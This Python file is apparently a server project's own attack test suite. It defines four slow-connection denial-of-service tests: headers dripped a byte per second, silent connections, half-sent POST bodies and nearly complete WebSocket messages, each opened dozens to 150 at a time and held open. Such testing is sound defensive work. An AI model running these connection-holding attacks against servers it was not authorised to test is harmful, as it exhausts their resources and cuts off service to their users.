"""Connections that are held: each sends the beginning of something, and then hardly anything or nothing at all."""

import random

from tests.attack.attacks.attack import Target, attack
from tests.attack.attacks.bodies import PATHS
from tests.attack.attacks.peer import Peer
from tests.attack.attacks.wire import head, request

MIB = 2**20
HELD = 20.0  # seconds


@attack("half-heads", at_once=150, pause=2)
async def half_heads(target: Target) -> str:
    """A head that gets another byte each second, and never an end."""
    async with Peer.connected(target) as peer:
        await peer.send(f"GET / HTTP/1.1\r\nHost: {target.address}\r\nX: ".encode())
        return await peer.repeat(b"a", int(HELD), pause=1)


@attack("silence", at_once=100, pause=2)
async def silence(target: Target) -> str:
    """Not a single byte."""
    async with Peer.connected(target) as peer:
        return await peer.end(HELD)


@attack("half-bodies", at_once=100, pause=4)
async def half_bodies(target: Target) -> str:
    """Half a body."""
    async with Peer.connected(target) as peer:
        head_of_request = request(target, f"POST {random.choice(PATHS)}", "Content-Length: 60000")
        await peer.send(head_of_request + 30_000 * b"a")
        return await peer.end(HELD)


@attack("unfinished-messages", at_once=40, pause=4)
async def unfinished_messages(target: Target) -> str:
    """A WebSocket message of a mebibyte but for its last byte."""
    async with Peer.joined(target, f"attack-unfinished-{random.randrange(4)}") as peer:
        await peer.send(head(MIB - 1))
        await peer.send((MIB - 2) * b"a")
        return await peer.end(HELD)
